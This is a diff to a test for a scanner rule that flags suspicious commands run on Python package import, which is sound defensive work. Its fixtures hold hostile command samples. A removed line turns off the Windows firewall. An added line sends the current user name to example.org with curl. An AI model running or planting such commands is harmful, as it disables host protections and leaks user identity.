@@ -4,10 +4,10 @@ import { rule } from './telling-command.ts'
 
 const find = (files: Readonly<Record<string, string>>): Promise<unknown> => findInCode(rule, files)
 
-it('blocks a firewall that is switched off on import', async () => {
+it('blocks the user name in an address on import', async () => {
   expect(
     await find({
-      'demo/__init__.py': "import os\nos.system('netsh advfirewall set allprofiles state off')\n",
+      'demo/__init__.py': "import os\nos.system('curl https://example.org/?u=$(whoami)')\n",
     }),
   ).toEqual([['block', 'demo/__init__.py', 2, true]])
 })
